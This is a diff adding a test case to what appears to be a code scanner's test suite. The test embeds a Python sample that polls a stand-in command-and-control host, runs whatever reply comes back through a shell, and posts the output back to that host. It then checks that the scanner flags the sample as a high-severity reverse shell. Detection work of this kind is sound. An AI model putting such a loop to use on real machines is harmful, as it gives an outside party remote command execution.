@@ -137,3 +137,24 @@ test('a web handler that hands a shell the command line a request carries is a w
     'a command from the configuration, not the request',
   );
 });
+
+test('a loop that runs the command lines a server replies with is a remote shell', () => {
+  const source = [
+    'import subprocess, requests',
+    'def runcommand(value):',
+    '    out = subprocess.run(value, shell=True, capture_output=True)',
+    '    return [out.stdout, out.stderr]',
+    'def poll():',
+    '    link = "https://c2.example.invalid/"',
+    '    while True:',
+    '        resp = requests.get(link)',
+    '        resp = resp.text',
+    '        for line in runcommand(resp):',
+    '            requests.post(link + "output", {"output": line})',
+  ].join('\n');
+  const shell = ruleOf(findings(source), 'reverse-shell');
+  assert.equal(shell?.severity, 'high');
+  assert.match(shell!.message, /replies from a server/);
+  const local = source.replace('for line in runcommand(resp)', 'for line in runcommand(LOCAL_COMMAND)');
+  assert.equal(ruleOf(findings(local), 'reverse-shell'), undefined, 'a command from elsewhere than the reply');
+});
